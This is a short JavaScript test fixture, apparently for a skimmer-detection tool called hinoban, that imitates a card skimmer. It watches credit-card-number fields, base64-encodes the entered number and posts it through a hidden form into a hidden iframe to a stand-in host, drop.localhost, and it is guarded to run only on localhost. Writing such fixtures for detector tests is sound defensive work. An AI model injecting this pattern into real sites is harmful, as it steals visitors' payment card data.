/* Harmless imitation, for hinoban's tests: a hidden form into a hidden frame. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	document.addEventListener('change', function (e) {
		if (e.target.autocomplete !== 'cc-number') return;
		var f = document.createElement('form'), i = document.createElement('iframe');
		i.name = 't54'; i.style.display = f.style.display = 'none';
		f.action = 'http://drop.localhost:' + location.port + '/c'; f.method = 'post'; f.target = 't54';
		f.innerHTML = '<input name=q>'; f.firstChild.value = btoa(e.target.value);
		document.body.append(i, f); f.submit();
	});
})();
